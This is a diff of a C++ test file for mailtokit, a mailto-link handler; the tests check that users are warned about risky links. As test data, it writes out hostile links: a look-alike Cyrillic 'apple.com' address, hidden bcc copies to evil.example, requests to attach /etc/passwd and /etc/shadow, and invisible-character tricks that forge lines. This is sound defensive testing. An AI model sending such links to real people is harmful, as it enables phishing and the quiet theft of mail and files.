@@ -3,140 +3,13 @@
 #include <catch2/catch.hpp>
 #include <string>
 
-#include "mailtokit/mailto.hpp"
-#include "mailtokit/policy.hpp"
-#include "mailtokit/utf8.hpp"
+#include "question_support.hpp"
+#include "ours_literal.hpp"
 
 using namespace mailtokit;
 using namespace mailtokit::ask;
+using namespace question_support;
 
-namespace {
-
-// The question `open` asks for `uri`, built as cmd_open.cpp builds it.
-question question_for(std::string_view uri, const std::vector<std::string>& losses = {}, const text_limits& l = {}) {
-  auto d = parse_draft(uri, {}, policy::defaults());
-  REQUIRE(d);
-  const auto findings = preview::check(*d);
-  return make_question(*d, findings, losses, l);
-}
-
-// What a person reads before the details: the headline, the findings and the choices.
-std::string front(const question& q) {
-  std::string t = q.headline + "\n";
-  for (const auto& f : q.findings) t += f + "\n";
-  for (const auto& c : q.choices) t += c + "\n";
-  for (const auto& b : q.buttons) t += b.label + "\n";
-  return t + question_terminal_text(q);
-}
-
-bool has(std::string_view text, std::string_view what) { return text.find(what) != std::string_view::npos; }
-
-bool button_for_test(const question& q, choice c) {
-  for (const auto& b : q.buttons)
-    if (b.what == c) return true;
-  return false;
-}
-
-// Words for developers that the question never shows: field indexes, spec names, the preview's
-// own phrases, and every finding and warning code (preview.hpp, draft.hpp).
-void check_plain_text(const std::string& t) {
-  for (const char* bad : {"to[",
-                          "cc[",
-                          "bcc",
-                          "Bcc",
-                          "BCC",
-                          "UTS",
-                          "RFC",
-                          "ASCII",
-                          "section",
-                          "SMTPUTF8",
-                          "hfield",
-                          "header:",
-                          "hidden_recipients",
-                          "bidi_control",
-                          "mixed_direction",
-                          "mixed_script",
-                          "confusable",
-                          "mixed_numbers",
-                          "hidden_overlay",
-                          "non_ascii_local_part",
-                          "invisible_character",
-                          "control_character",
-                          "invalid_address",
-                          "display_name_mismatch",
-                          "long_body",
-                          "many_lines",
-                          "header_controls_removed",
-                          "attach=",
-                          "repaired:",
-                          "U+2066",
-                          "\xE2\x81\xA6",
-                          "\xE2\x80\xAE",
-                          "\x1B"}) {
-    INFO(t);
-    CHECK_FALSE(has(t, bad));
-  }
-}
-
-// The recipients' lines are checked alone: they isolate each address (LRI ... PDI), which the
-// rest of the question never holds.
-void check_plain_words(const question& q) {
-  question without = q;
-  without.recipients.clear();
-  check_plain_text(front(without));
-  for (const auto& r : q.recipients) {
-    INFO(r);
-    CHECK_FALSE(has(r, "Bcc"));
-    CHECK_FALSE(has(r, "\xE2\x80\xAE"));
-    std::size_t open = 0, close = 0;
-    for (std::size_t at = 0; (at = r.find("\xE2\x81\xA6", at)) != std::string::npos; ++at) ++open;
-    for (std::size_t at = 0; (at = r.find("\xE2\x81\xA9", at)) != std::string::npos; ++at) ++close;
-    CHECK(open == close);
-  }
-}
-
-// The notification's lines for `uri`, built as cmd_open.cpp builds them, one per line.
-std::string notice(std::string_view uri) {
-  auto d = parse_draft(uri, {}, policy::defaults());
-  REQUIRE(d);
-  std::string t;
-  for (const auto& l : notice_lines(*d, preview::check(*d))) t += l + "\n";
-  return t;
-}
-
-// The question as one text, as a window shows it: the headline, the findings, who gets the
-// message, each choice, then the details.
-std::string shown_text(const question& q) {
-  std::string out = q.headline + "\n\n";
-  for (const auto& f : q.findings) out += "- " + f + "\n";
-  if (!q.findings.empty()) out += "\n";
-  if (!q.recipients.empty()) {
-    out += "The message goes to:\n";
-    for (const auto& r : q.recipients) out += "  " + r + "\n";
-    out += "\n";
-  }
-  for (const auto& c : q.choices) out += c + "\n";
-  if (!q.details.empty()) out += "\nDetails:\n" + q.details;
-  return out;
-}
-
-// Lines of shown_text() before the details, without who gets the message (at most a
-// line per field, each at most 20 addresses: recipients_bounded()).
-std::size_t lines_before_details(const question& q) {
-  question without = q;
-  without.recipients.clear();
-  const std::string t = shown_text(without);
-  const auto details = t.find("\nDetails:\n");
-  REQUIRE(details != std::string::npos);
-  std::size_t n = 0;
-  for (std::size_t i = 0; i < details; ++i) n += t[i] == '\n';
-  return n;
-}
-
-const std::string issue_link =
-    "mailto:admin@%D0%B0pple.com?bcc=x@evil.example&subject=Invoice&attach=%2Fetc%2Fpasswd";
-
-}  // namespace
 
 TEST_CASE("the issue's link: the look-alike first, named and marked, Cancel the default", "[question]") {
   const auto q = question_for(issue_link);
@@ -179,7 +52,7 @@ TEST_CASE("a hidden copy alone: named in the headline, and removing it is the de
   REQUIRE(q.buttons.size() == 3);
   CHECK(q.buttons[0].what == choice::open_without_bcc);
   CHECK(q.buttons[1].what == choice::cancel);
-  CHECK(q.choices[0].rfind("Open without the hidden copy: ", 0) == 0);
+  CHECK(q.choices[0].starts_with("Open without the hidden copy: "));
   check_plain_words(q);
   // A look-alike hidden address goes with the hidden copy: removing it is still safe.
   const auto spoofed = question_for("mailto:a@example.org?bcc=x@%D0%B0pple.com");
@@ -265,7 +138,7 @@ TEST_CASE("a run of blanks cannot start a forged line", "[question]") {
   for (int i = 0; i < 40; ++i) em += "%E2%80%83";
   const auto q = question_for("mailto:a@example.org?bcc=x@evil.example&subject=Hi" + em +
                               "%E2%80%A2%20Checked%3A%20your%20own%20archive.");
-  const std::string all = front(q) + q.details;
+  const std::string all = front(q) + q.details.str();
   for (const auto& r : q.recipients) CHECK(r.find("\u2003\u2003") == std::string::npos);
   CHECK(all.find("\u2003\u2003") == std::string::npos);
   CHECK(q.details.find("<U+2003><U+2003>") != std::string::npos);
@@ -275,7 +148,7 @@ TEST_CASE("a run of blanks cannot start a forged line", "[question]") {
   for (int i = 0; i < 30; ++i) blanks += "%E2%A0%80%20%20";
   const auto b = question_for("mailto:a@example.org?bcc=x@evil.example&subject=Hi" + blanks +
                               "%E2%80%A2%20Checked%3A%20your%20own%20archive.");
-  const std::string shown = front(b) + b.details;
+  const std::string shown = front(b) + b.details.str();
   CHECK(shown.find("\u2800") == std::string::npos);
   CHECK(shown.find("    ") == std::string::npos);
   CHECK(shown.find("<U+2800>") != std::string::npos);
@@ -289,7 +162,7 @@ TEST_CASE("hostile text cannot change or swamp the question", "[question]") {
   for (int i = 0; i < 3000; ++i) subject += "A";
   std::string hidden;
   for (int i = 0; i < 6; ++i)
-    hidden += (i ? "," : "") + std::string("h") + std::to_string(i) + "@evil.example";
+    hidden.append(i ? "," : "").append("h").append(std::to_string(i)).append("@evil.example");
   const auto q = question_for("mailto:" + to + "?subject=" + subject + "&bcc=" + hidden);
   const std::string t = shown_text(q);
   CHECK(utf8::validate(t));
@@ -367,140 +240,6 @@ TEST_CASE("more recipients than the question can show: only what sends to none u
   CHECK(q.safe == choice::cancel);
 }
 
-namespace {
-// The choice of a typed line, without files.
-std::optional<choice> typed(std::string_view line, const question& q) {
-  auto a = parse_typed(line, q);
-  if (!a) return std::nullopt;
-  CHECK(a->files.empty());
-  return a->what;
-}
-}  // namespace
-
-TEST_CASE("the terminal: keys, Enter picks the safe answer, unknown answers ask again", "[question]") {
-  const auto q = question_for(issue_link);
-  const std::string t = question_terminal_text(q);
-  CHECK(t.rfind(q.headline + "\n\n", 0) == 0);
-  CHECK(has(t, "  [c] Cancel: nothing is opened.\n"));
-  CHECK(has(t, "  [w] Open without the hidden copy: "));
-  CHECK(has(t, "  [o] Open as it is: "));
-  CHECK(t.find("[c]") < t.find("[w]"));
-  CHECK(typed("", q) == choice::cancel);
-  CHECK(typed("\n", q) == choice::cancel);
-  CHECK(typed("o\n", q) == choice::open);
-  CHECK(typed(" Open ", q) == choice::open);
-  CHECK(typed("w", q) == choice::open_without_bcc);
-  CHECK(typed("B", q) == choice::open_without_bcc);
-  CHECK(typed("c", q) == choice::cancel);
-  CHECK(typed("open as it is", q) == choice::open);
-  CHECK(typed("Open without the hidden copy", q) == choice::open_without_bcc);
-  CHECK_FALSE(typed("yes", q));
-  CHECK_FALSE(typed("d", q));  // the details are not an answer
-  const auto bcc = question_for("mailto:a@example.org?bcc=x@evil.example");
-  CHECK(typed("", bcc) == choice::open_without_bcc);
-  const auto no_bcc = question_for("mailto:admin@%D0%B0pple.com");
-  CHECK_FALSE(typed("w", no_bcc));  // no such button
-  CHECK(typed("", no_bcc) == choice::cancel);
-  CHECK_FALSE(has(question_terminal_text(no_bcc), "[w]"));
-}
-
-TEST_CASE("one question for the link and its files: none ticked, chosen by number on the terminal", "[question]") {
-  // Issue 35: one question, the whole truth; no default key attaches.
-  file_offer files;
-  files.intro = "xdg-email asks to attach 2 files to the message for Thunderbird.";
-  files.advice = "Tick a file only if you asked to send it yourself.";
-  files.files = {{"\xE2\x81\xA8" "a.pdf\xE2\x81\xA9", "in /home/u, 1 kB, PDF document"},
-                 {"\xE2\x81\xA8" "b.pdf\xE2\x81\xA9", "in /home/u, 2 kB, PDF document"}};
-  files.notes = {"Never attached: .ssh: it is hidden"};
-  auto d = mailtokit::parse_draft("mailto:boss@example.org");
-  REQUIRE(d);
-  const auto plain = make_question(*d, mailtokit::preview::check(*d), {}, {}, files);
-  CHECK(plain.headline == files.intro);  // asked only for the files
-  CHECK(plain.safe == choice::open);     // Enter opens, with no file ticked
-  REQUIRE(plain.buttons.size() == 2);
-  CHECK(plain.buttons[0].what == choice::open);
-  CHECK(plain.buttons[1].what == choice::cancel);
-  CHECK(plain.recipients == std::vector<std::string>{"To: \xE2\x81\xA6" "boss@example.org\xE2\x81\xA9"});
-  const std::string t = question_terminal_text(plain);
-  CHECK(has(t, "The message goes to:\n  To: "));
-  CHECK(has(t, "  [1] \xE2\x81\xA8" "a.pdf\xE2\x81\xA9\n      in /home/u, 1 kB, PDF document\n"));
-  CHECK(has(t, "  [2] "));
-  CHECK(has(t, "  Never attached: .ssh: it is hidden\n"));
-  CHECK(t.find(files.intro) == t.rfind(files.intro));  // the headline is not said twice
-  auto a = parse_typed("", plain);
-  REQUIRE(a);
-  CHECK(a->what == choice::open);
-  CHECK(a->files.empty());
-  CHECK(a->files_shown);
-  a = parse_typed("o 2", plain);
-  REQUIRE(a);
-  CHECK(a->files == std::vector<std::size_t>{1});
-  a = parse_typed("open 2 1 2", plain);
-  REQUIRE(a);
-  CHECK(a->files == std::vector<std::size_t>{0, 1});
-  a = parse_typed("O all", plain);
-  REQUIRE(a);
-  CHECK(a->files == std::vector<std::size_t>{0, 1});
-  CHECK_FALSE(parse_typed("1", plain));      // a number is no choice
-  CHECK_FALSE(parse_typed("o 3", plain));    // no third file
-  CHECK_FALSE(parse_typed("o 0", plain));
-  CHECK_FALSE(parse_typed("o 1x", plain));
-  CHECK_FALSE(parse_typed("o 99999999999999999999", plain));
-  CHECK_FALSE(parse_typed("c 1", plain));    // cancel attaches nothing
-  CHECK_FALSE(parse_typed("w", plain));      // no hidden copy here
-  // A risky link keeps its headline and its safe default; the files are in the same question.
-  auto risky = mailtokit::parse_draft("mailto:boss@example.org?bcc=spy@evil.example");
-  REQUIRE(risky);
-  const auto q = make_question(*risky, mailtokit::preview::check(*risky), {}, {}, files);
-  CHECK(q.headline != files.intro);
-  CHECK(q.safe == choice::open_without_bcc);
-  CHECK(q.recipients.size() == 2);
-  a = parse_typed("w 1", q);
-  REQUIRE(a);
-  CHECK(a->what == choice::open_without_bcc);
-  CHECK(a->files == std::vector<std::size_t>{0});
-  CHECK(has(question_terminal_text(q), files.intro + "\n"));
-  // Without files, numbers are no answer.
-  const auto none = make_question(*d, mailtokit::preview::check(*d), {});
-  CHECK_FALSE(parse_typed("o 1", none));
-  CHECK_FALSE(parse_typed("", none)->files_shown);
-}
-
-TEST_CASE("the notification says each repair in plain words, once per kind", "[question][notice]") {
-  // Two syntax repairs (a literal '%', a field without '=') are one sentence.
-  const std::string syntax = notice("mailto:a@example.org?subject=100%&keywords");
-  CHECK(syntax == "The link was not written quite correctly; mailtokit read it the way it was evidently meant.\n");
-  // Where the text changed is named before a colon.
-  const std::string text = notice("mailto:a@example.org?subject=a%0Ab%FF&body=x%01y&keywords=k%E2%80%8Bw%0Dz");
-  CHECK(has(text, "Subject: line breaks or control characters were removed.\n"));
-  CHECK(has(text, "Subject: some letters could not be read and were replaced.\n"));
-  CHECK(has(text, "Message text: control characters were removed.\n"));
-  CHECK(has(text, "Keywords: line breaks or control characters were removed.\n"));
-  check_plain_text(text);
-  // Line breaks written as a bare %0A are no news: no line at all.
-  CHECK(notice("mailto:a@example.org?body=line%201%0Aline%202") == "");
-  CHECK(notice("mailto:a@example.org?subject=fine") == "");
-}
-
-TEST_CASE("the notification names risky things and removed fields as the question does", "[question][notice]") {
-  const std::string t = notice(issue_link);
-  CHECK(has(t, "admin@\xD0\xB0pple.com is not apple.com\n"));
-  CHECK(has(t, "This link would send a hidden copy to x@evil.example\n"));
-  // attach= is told by offer_files() (offered, or not attached and why), so not here.
-  CHECK_FALSE(has(t, "passwd"));
-  check_plain_text(t);
-  // Other fields that ask for a file, and fields a link may not set, are named.
-  const std::string dropped = notice("mailto:a@example.org?insert=%2Fetc%2Fshadow&from=boss@example.org&x-y=1");
-  CHECK(has(dropped, "mailtokit removed a request to attach /etc/shadow: a link may never attach files.\n"));
-  CHECK(has(dropped, "mailtokit removed 2 fields a link may not set: \"from\", \"x-y\".\n"));
-  // A long subject is worth reading in full.
-  CHECK(has(notice("mailto:a@example.org?subject=" + std::string(300, 'x')),
-            "The subject is long: read all of it before you send it.\n"));
-  // An address some servers cannot deliver to.
-  const std::string utf8 = notice("mailto:%D0%BF%D0%BE%D1%87%D1%82%D0%B0@example.org");
-  CHECK(has(utf8, "has letters outside A to Z before the @; some mail servers cannot deliver to it.\n"));
-}
-
 TEST_CASE("every change of the hand-over is told: two in the question, all in the details", "[question]") {
   const std::vector<std::string> losses = {
       "mailtokit left out a@corp.example boss@evil.example (To): it is not a complete address",
@@ -511,7 +250,7 @@ TEST_CASE("every change of the hand-over is told: two in the question, all in th
   CHECK(std::count(q.findings.begin(), q.findings.end(), losses[0]) == 1);
   CHECK(std::count(q.findings.begin(), q.findings.end(), losses[1]) == 1);
   CHECK(std::any_of(q.findings.begin(), q.findings.end(),
-                    [](const std::string& f) { return f.find("2 more changes") != std::string::npos; }));
+                    [](const display_text& f) { return f.find("2 more changes") != std::string::npos; }));
   for (const auto& loss : losses) CHECK(q.details.find(loss) != std::string::npos);
   const auto two = question_for("mailto:ok@corp.example?subject=x", {losses[0], losses[1]});
   CHECK(two.details.find("What mailtokit changed") == std::string::npos);
@@ -525,7 +264,7 @@ TEST_CASE("a dialog program that cannot be guarded is never offered the risky an
   CHECK(bcc.buttons[0].what == choice::open_without_bcc);
   CHECK(bcc.buttons[1].what == choice::cancel);
   REQUIRE(bcc.choices.size() == 2);
-  CHECK(bcc.choices[0].rfind("Open without the hidden copy: ", 0) == 0);
+  CHECK(bcc.choices[0].starts_with("Open without the hidden copy: "));
   CHECK(bcc.choices[1] == "Cancel: nothing is opened.");
   CHECK(has(bcc.findings.back(), says));
   CHECK(bcc.safe == choice::open_without_bcc);
@@ -533,7 +272,7 @@ TEST_CASE("a dialog program that cannot be guarded is never offered the risky an
   const auto both = unguarded_question(question_for(issue_link));
   REQUIRE(both.buttons.size() == 1);
   CHECK(both.buttons[0].what == choice::cancel);
-  CHECK(both.choices == std::vector<std::string>{"Cancel: nothing is opened."});
+  CHECK(texts(both.choices) == std::vector<std::string>{"Cancel: nothing is opened."});
   CHECK(has(both.findings.back(), says));
   check_plain_words(both);
   // Nothing risky (asked for every link, or only for files): the question as it is.
